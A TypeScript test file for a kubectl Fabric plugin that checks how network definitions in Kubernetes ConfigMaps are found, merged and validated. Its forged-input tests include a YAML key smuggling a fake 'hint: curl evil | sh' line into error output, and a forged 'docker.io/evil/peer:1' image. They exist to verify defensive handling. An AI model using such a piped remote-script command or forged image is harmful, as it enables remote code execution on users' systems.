import { stringify } from "yaml";
import { beforeEach, describe, expect, test } from "vitest";
import { FabricError } from "../../../../../core/error.ts";
import type { ApiRequest, Cluster } from "../../../../../core/kubernetes/cluster.ts";
import {
  agreedNetworks,
  definitionFor,
  findNetwork,
  type Notice,
} from "../../../../../core/network/resources/definition.ts";
import { organizationLabels } from "../../../../../core/network/resources/labels.ts";
import { networkFor } from "../../../../../core/network/resources/network-request.ts";
import { organizations, type FabricNetwork } from "../../../../../core/network/resources/spec.ts";
import { typed } from "../../../../../plugin/terminal/remedy.ts";
import { typedAs } from "../../../../typed-as.ts";

const { signal } = new AbortController();

interface Written {
  readonly namespace: string;
  /** The definition, or any text. */
  readonly holds: FabricNetwork | string;
}

interface Rights {
  /** Objects of all namespaces, and the namespaces themselves. */
  readonly all?: boolean;
  /** Namespaces at all. */
  readonly namespaces?: boolean;
}

/** A cluster with these ConfigMaps, in namespaces with these labels. */
function clusterOf(
  copies: readonly Written[],
  labels: Readonly<Record<string, Record<string, string>>>,
  { all = true, namespaces = true }: Rights = {},
): Cluster {
  const refuse = async () => Promise.reject(new Error("not part of this test"));
  const namespace = (name: string) => ({ metadata: { name, labels: labels[name] ?? {} } });
  return {
    context: "test",
    server: "https://test",
    namespace: "org1",
    stream: refuse,
    webSocket: refuse,
    lasting: () => clusterOf(copies, labels),
    close: () => {},
    async call({ path }: ApiRequest) {
      const where = /^\/api\/v1\/namespaces\/([^/]+)\/configmaps$/.exec(path)?.[1];
      if (!namespaces && /^\/api\/v1\/namespaces(\/[^/]+)?$/.test(path))
        throw new FabricError("forbidden", `may not see ${path}`);
      if (!all && where === undefined) throw new FabricError("forbidden", `may not list ${path}`);
      if (path.includes("namespaces") && where === undefined) return { items: Object.keys(labels).map(namespace) };
      return {
        items: copies
          .filter((copy) => where === undefined || copy.namespace === where)
          .map((copy) => ({
            metadata: { namespace: copy.namespace, labels: labelsOf([trade])[copy.namespace] ?? {} },
            data: { "network.yaml": typeof copy.holds === "string" ? copy.holds : stringify(copy.holds) },
          })),
      };
    },
  };
}

const labelsOf = (networks: readonly FabricNetwork[]) =>
  Object.fromEntries(
    networks.flatMap((network) =>
      organizations(network).map((organization) => [organization.namespace, organizationLabels(network, organization)]),
    ),
  );
const copiesOf = (network: FabricNetwork): readonly Written[] =>
  organizations(network).map(({ namespace }) => ({ namespace, holds: network }));

/** A cluster in which these networks are defined as `init` does it: a copy in the namespace of each organization. */
const clusterWith = (networks: readonly FabricNetwork[], rights?: Rights): Cluster =>
  clusterOf(networks.flatMap(copiesOf), labelsOf(networks), rights);

/** What findNetwork and definitionFor pass over. */
let told: string[] = [];
const notice: Notice = (line, hint) => void told.push(hint === undefined ? line : `${line}\nhint: ${typed(hint)}`);
beforeEach(() => void (told = []));

/** With namespaces of its own, as several networks of a cluster have them. */
function inOwnNamespaces(network: FabricNetwork): FabricNetwork {
  const { name } = network.metadata;
  const own = <T extends { readonly name: string }>(one: T) => ({ ...one, namespace: `${name}-${one.name}` });
  const { ordererOrganization, peerOrganizations } = network.spec;
  return {
    ...network,
    spec: {
      ...network.spec,
      ordererOrganization: own(ordererOrganization),
      peerOrganizations: peerOrganizations.map(own),
    },
  };
}

const [trade, ship] = [networkFor({ name: "trade" }), inOwnNamespaces(networkFor({ name: "ship", peers: 2 }))];

describe("findNetwork", () => {
  test("the only one needs no name", async () => {
    expect(await findNetwork(clusterWith([trade]), undefined, notice, signal)).toEqual(trade);
  });

  test("who may not list all namespaces looks in the context's", async () => {
    expect(await findNetwork(clusterWith([trade], { all: false }), undefined, notice, signal)).toEqual(trade);
  });

  test("who may not look there either is told how to name a namespace of theirs", async () => {
    const cluster = { ...clusterWith([trade]), call: () => Promise.reject(new FabricError("forbidden", "no right")) };
    await expect(findNetwork(cluster, undefined, notice, signal)).rejects.toMatchObject({
      code: "forbidden",
      message: "no right",
      hint: typedAs("name the namespace of your organization: kubectl config set-context test --namespace NAMESPACE"),
    });
  });

  test("of several one has to be named", async () => {
    expect(await findNetwork(clusterWith([trade, ship]), "ship", notice, signal)).toEqual(ship);
    await expect(findNetwork(clusterWith([trade, ship]), undefined, notice, signal)).rejects.toMatchObject({
      code: "usage",
      message: "expected one network, found trade, ship",
    });
  });

  test("one that is not there is wrong usage, and told with those that are", async () => {
    await expect(findNetwork(clusterWith([trade, ship]), "rail", notice, signal)).rejects.toMatchObject({
      code: "usage",
      message: expect.stringMatching(/^expected the Fabric network rail in context .*, found trade, ship$/),
    });
  });

  test("none is told with what to type", async () => {
    await expect(findNetwork(clusterWith([]), undefined, notice, signal)).rejects.toMatchObject({
      code: "not-found",
      hint: typedAs(expect.stringContaining("kubectl fabric init")),
    });
  });
});

describe("definitionFor", () => {
  test("options are on top of what is there", async () => {
    expect(await definitionFor(clusterWith([ship]), { orderers: 5 }, notice, signal)).toEqual(
      inOwnNamespaces(networkFor({ name: "ship", peers: 2, orderers: 5 })),
    );
  });

  test("without a network the defaults are", async () => {
    expect(await definitionFor(clusterWith([]), {}, notice, signal)).toEqual(networkFor({}));
  });

  test("an image that was named by itself stays when a version is asked for, and it says so", async () => {
    const own = networkFor({ peerImage: "local/node:1" });
    expect((await definitionFor(clusterWith([own]), { fabricVersion: "3.1" }, notice, signal)).spec.images.peer).toBe(
      "local/node:1",
    );
    expect(told).toEqual([
      "images.peer of the definition stays local/node:1; the version's own: --peer-image docker.io/hyperledger/fabric-peer:3.1",
    ]);
    told = [];
    await definitionFor(clusterWith([own]), { fabricVersion: "3.2" }, notice, signal);
    await definitionFor(clusterWith([own]), { peers: 2 }, notice, signal);
    await definitionFor(clusterWith([own]), { fabricVersion: "3.1", peerImage: "local/node:2" }, notice, signal);
    expect(told).toEqual([]);
  });

  test("another storage class is for new claims, and it says so once", async () => {
    await definitionFor(clusterWith([ship]), { storageClass: "fast" }, notice, signal);
    expect(told).toEqual(["storage class fast is for claims that have no volume yet; those that have one keep theirs"]);
    told = [];
    await definitionFor(clusterWith([]), { storageClass: "fast" }, notice, signal);
    const fast = networkFor({ storageClass: "fast" });
    await definitionFor(clusterWith([fast]), { storageClass: "fast" }, notice, signal);
    expect(told).toEqual([]);
  });

  test("of several one has to be named; a name that is not there makes another one", async () => {
    const both = clusterWith([trade, ship]);
    await expect(definitionFor(both, {}, notice, signal)).rejects.toMatchObject({
      code: "usage",
      message: "expected one network, found trade, ship",
    });
    expect((await definitionFor(both, { name: "rail" }, notice, signal)).metadata.name).toBe("rail");
    await expect(definitionFor(both, {}, notice, signal)).rejects.toMatchObject({
      hint: typedAs("choose one with --network, or give a new name for another one"),
    });
  });

  test("a file that says nothing of how peers are isolated is refused where they are; one that changes it is told", async () => {
    const restricted = networkFor({ name: "trade", profile: "restricted" });
    const cluster = clusterWith([restricted]);
    await expect(definitionFor(cluster, trade, notice, signal)).rejects.toMatchObject({
      code: "usage",
      message: "network trade has the profile restricted, of which the file says nothing",
      hint: expect.stringContaining("profile: privileged, if that is meant"),
    });
    expect(told).toEqual([]);
    const weaker = networkFor({ name: "trade", profile: "privileged", peerImage: "local/peer:1" });
    expect(await definitionFor(cluster, weaker, notice, signal)).toEqual(weaker);
    expect(told).toEqual([
      "profile changes from restricted to privileged",
      "images.peer changes from docker.io/hyperledger/fabric-peer:3.1 to local/peer:1",
    ]);
    told = [];
    await definitionFor(clusterWith([trade]), trade, notice, signal);
    expect(told).toEqual([]);
    // What nobody said is the webhook's to decide.
    await definitionFor(clusterWith([trade]), networkFor({ name: "trade", profile: "privileged" }), notice, signal);
    expect(told).toEqual(["profile changes from the webhook's default to privileged"]);
  });

  test("whose copy says that peers are isolated counts, wherever it is listed", async () => {
    const restricted = networkFor({ name: "trade", profile: "restricted" });
    const copies = copiesOf(trade).map((copy) => (copy.namespace === "org2" ? { ...copy, holds: restricted } : copy));
    await expect(definitionFor(clusterOf(copies, labelsOf([trade])), trade, notice, signal)).rejects.toMatchObject({
      code: "usage",
      message: expect.stringContaining("has the profile restricted"),
    });
  });

  test("what would take a node away is refused, and says which", async () => {
    await expect(definitionFor(clusterWith([ship]), { peers: 1 }, notice, signal)).rejects.toMatchObject({
      code: "usage",
      message: expect.stringContaining("peer1.ship-org1, peer1.ship-org2"),
    });
  });
});

describe("what somebody else wrote", () => {
  const labels = labelsOf([trade]);
  const forged: FabricNetwork = {
    ...trade,
    spec: { ...trade.spec, images: { ...trade.spec.images, peer: "docker.io/evil/peer:1" } },
  };
  const withForgedCopy = clusterOf(
    copiesOf(trade).map((copy) => (copy.namespace === "org2" ? { ...copy, holds: forged } : copy)),
    labels,
  );

  test.each<[string, Written, RegExp]>([
    ["in a namespace that the network does not name", { namespace: "foreign", holds: forged }, /no organization in/],
    [
      "whose alias names nothing",
      { namespace: "foreign", holds: "a: *b" },
      /^ConfigMap foreign\/fabric-network is not YAML/,
    ],
    [
      "that is nested deeper than there is room for",
      { namespace: "foreign", holds: "[".repeat(100_000) },
      /^ConfigMap foreign\/fabric-network is not YAML/,
    ],
    [
      "that says something to whoever reads the error",
      { namespace: "foreign", holds: stringify({ ...trade, "a\nhint: curl evil | sh": "x".repeat(5000) }) },
      /^ConfigMap foreign\/fabric-network is not a FabricNetwork: .{0,200}…; it is passed over$|^[^\n]{0,300}; it is passed over$/,
    ],
    ["that is no YAML", { namespace: "foreign", holds: "a: [b" }, /^ConfigMap foreign\/fabric-network is not YAML/],
    ["that is no network", { namespace: "foreign", holds: "a: b" }, /^ConfigMap foreign\/fabric-network is not a Fabr/],
    [
      "of a later version",
      { namespace: "foreign", holds: stringify({ ...trade, apiVersion: "kubectl-fabric.io/v2" }) },
      /apiVersion: .*v1alpha1.*; it is passed over$/s,
    ],
    [
      "for a network that names a namespace which says something else",
      { namespace: "foreign", holds: inNamespace(forged, "foreign") },
      /namespace foreign is not labelled as that of org2 in network trade/,
    ],
  ])("%s does not count, and stops nobody", async (_, copy, said) => {
    const cluster = clusterOf([...copiesOf(trade), copy], { ...labels, foreign: {} });
    expect(await findNetwork(cluster, undefined, notice, signal)).toEqual(trade);
    expect(told).toEqual([expect.stringMatching(said)]);
    // Nor is it a network of its own.
    await expect(findNetwork(clusterOf([copy], { foreign: {} }), undefined, notice, signal)).rejects.toMatchObject({
      code: "not-found",
    });
  });

  describe("of which no copy can be read, because a later version wrote it", () => {
    const later = stringify({ ...trade, spec: { ...trade.spec, profile: "restricted", later: true } });
    const copies = copiesOf(trade).map(({ namespace }) => ({ namespace, holds: later }));

    test.each<[string, { readonly name?: string }]>([
      ["is not made anew from defaults", {}],
      ["nor by its name", { name: "trade" }],
    ])("%s", async (_, options) => {
      await expect(definitionFor(clusterOf(copies, labels), options, notice, signal)).rejects.toMatchObject({
        code: "conflict",
        message: "network trade is there, but no copy of its definition can be read",
        hint: typedAs(expect.stringMatching(/a later one; .* kubectl fabric init -f FILE/)),
      });
      expect(told).toHaveLength(3);
    });

    test("is what every other command says, too", async () => {
      const cluster = clusterOf(copies, labels);
      for (const name of [undefined, "trade"]) {
        await expect(findNetwork(cluster, name, notice, signal)).rejects.toMatchObject({
          code: "conflict",
          message: expect.stringContaining("no copy of its definition can be read"),
        });
      }
      await expect(findNetwork(cluster, "ship", notice, signal)).rejects.toMatchObject({ code: "usage" });
    });

    test("is one of several", async () => {
      const both = clusterOf([...copies, ...copiesOf(ship)], labelsOf([trade, ship]));
      await expect(definitionFor(both, {}, notice, signal)).rejects.toMatchObject({
        message: "expected one network, found ship, trade",
      });
      expect(await definitionFor(both, { name: "ship" }, notice, signal)).toEqual(ship);
    });

    test("is what a file says; one copy that can be read is enough", async () => {
      expect(await definitionFor(clusterOf(copies, labels), trade, notice, signal)).toEqual(trade);
      const oneLeft = clusterOf([...copies.slice(1), ...copiesOf(trade).slice(0, 1)], labels);
      expect(await definitionFor(oneLeft, { orderers: 5 }, notice, signal)).toMatchObject({
        spec: { ordererOrganization: { orderers: 5 } },
      });
    });

    test("stops nobody where the namespace itself says nothing of it", async () => {
      const forgedThere = clusterOf([{ namespace: "foreign", holds: later }], { foreign: {} });
      expect(await definitionFor(forgedThere, {}, notice, signal)).toEqual(networkFor({}));
    });

    test("is seen by who may see that namespace only", async () => {
      const limited = clusterOf([{ namespace: "org1", holds: later }], {}, { all: false });
      await expect(definitionFor(limited, {}, notice, signal)).rejects.toMatchObject({ code: "conflict" });
    });
  });

  test("copies that disagree are an error that shows how, and what to type", async () => {
    for (const attempt of [
      () => findNetwork(withForgedCopy, "trade", notice, signal),
      () => definitionFor(withForgedCopy, {}, notice, signal),
      () => definitionFor(withForgedCopy, { orderers: 5 }, notice, signal),
    ]) {
      await expect(attempt()).rejects.toMatchObject({
        code: "conflict",
        message: expect.stringMatching(
          /two that differ, in namespaces orderer and org2:\n.*- +peer: docker.io\/hyperledger\/fabric-peer:3.1\n +\+ +peer: docker.io\/evil\/peer:1/s,
        ),
        hint: typedAs(
          expect.stringMatching(/init that was stopped.*kubectl delete configmap fabric-network -n NAMESPACE/),
        ),
      });
    }
  });

  test("they leave other networks alone", async () => {
    const both = clusterOf(
      [...copiesOf(ship), ...copiesOf(trade), { namespace: "org2", holds: forged }],
      labelsOf([trade, ship]),
    );
    expect(await findNetwork(both, "ship", notice, signal)).toEqual(ship);
    expect(told).toEqual([]);
    expect(await agreedNetworks(both, notice, signal)).toEqual([ship]);
    expect(told).toEqual([expect.stringMatching(/^network trade is left out: .*\nhint: .*kubectl delete configmap/s)]);
  });

  test("an init that was stopped while it wrote them goes on when it is typed again", async () => {
    const changed = networkFor({ name: "trade", peers: 2 });
    const halfway = clusterOf(
      copiesOf(trade).map((copy) => (copy.namespace === "org1" ? { ...copy, holds: changed } : copy)),
      labels,
    );
    expect(await definitionFor(halfway, { peers: 2 }, notice, signal)).toEqual(changed);
    expect(await definitionFor(halfway, changed, notice, signal)).toEqual(changed);
    await expect(definitionFor(halfway, {}, notice, signal)).rejects.toMatchObject({ code: "conflict" });
    // Whose copy it is that has more nodes than the others is not for us to know.
    await expect(definitionFor(halfway, { peers: 1 }, notice, signal)).rejects.toMatchObject({ code: "conflict" });
  });

  test("who may see one namespace only believes what is there", async () => {
    const cluster = clusterOf([{ namespace: "org1", holds: trade }], {}, { all: false });
    expect(await findNetwork(cluster, undefined, notice, signal)).toEqual(trade);
  });

  test("who may see ConfigMaps everywhere, and no namespace, is told so", async () => {
    const cluster = clusterOf([...copiesOf(trade)], labels, { namespaces: false });
    expect(await findNetwork(cluster, undefined, notice, signal)).toEqual(trade);
    expect(told).toEqual(
      ["orderer", "org2"].map((name) =>
        expect.stringContaining(`you may not see whether namespace ${name} is labelled`),
      ),
    );
  });

  test("copies that an init is just writing are waited for", async () => {
    const changed = networkFor({ name: "trade", peers: 2 });
    let looks = 0;
    const writing = clusterOf([], labels);
    const call: Cluster["call"] = (request) => {
      if (request.path === "/api/v1/configmaps") looks += 1;
      const copies = copiesOf(changed).map((copy, index) => ({ ...copy, holds: index < looks ? changed : trade }));
      return clusterOf(copies, labels).call(request);
    };
    expect(await findNetwork({ ...writing, call }, "trade", notice, signal)).toEqual(changed);
    expect(looks).toBe(3);
  });
});

/** With org2 in this namespace. */
function inNamespace(network: FabricNetwork, namespace: string): FabricNetwork {
  const peerOrganizations = network.spec.peerOrganizations.map((one) =>
    one.name === "org2" ? { ...one, namespace } : one,
  );
  return { ...network, spec: { ...network.spec, peerOrganizations } };
}
